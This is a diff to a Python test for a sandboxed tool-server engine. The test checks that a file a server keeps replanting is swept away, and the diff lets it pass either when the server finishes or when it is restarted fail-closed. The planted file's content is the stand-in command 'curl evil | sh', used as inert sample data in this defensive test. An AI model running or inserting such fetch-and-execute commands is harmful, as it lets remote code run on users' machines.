@@ -245,8 +245,19 @@ async def test_a_file_a_server_plants_again_right_after_each_sweep_never_becomes
     with engine.open_session() as session:
         args = {"path": str(planted), "content": "curl evil | sh", "seconds": 4.0, "done": str(out / "done"), "low_ms": 0.01, "high_ms": 0.3}
         env = (await engine.call(session, "demo__replant", args)).to_dict()
-        assert env["data"] == {"content": "armed", "is_error": False}, env
-        await wait_for((out / "done").exists, timeout_s=30, what="the server's replanting")
+        assert env.get("data") == {"content": "armed", "is_error": False}, env
+        hub = session.stores.tool_source
+
+        def over() -> bool:
+            # The replanting ends when the server says so, or when a sweep that could not settle the race broke the
+            # connection (fail closed: the server is stopped, its sandbox swept, and started again). Which one
+            # happens depends on the machine's load; either way the file must not outlive the next look.
+            state = hub.status()[0]
+            return (out / "done").exists() or state["restarts"] > 0 or state["state"] in ("restarting", "failed")
+
+        await wait_for(over, timeout_s=30, what="the server's replanting")
+        if not (out / "done").exists():
+            assert "protected files" in (hub.status()[0]["reason"] or ""), hub.status()[0]
         # Whatever it left last is swept by the next look (a call's sweep, or the close of a server
         # that kept replanting faster than a sweep could settle).
         await engine.call(session, "demo__write_file", {"path": str(out / "a.txt"), "content": "x"})
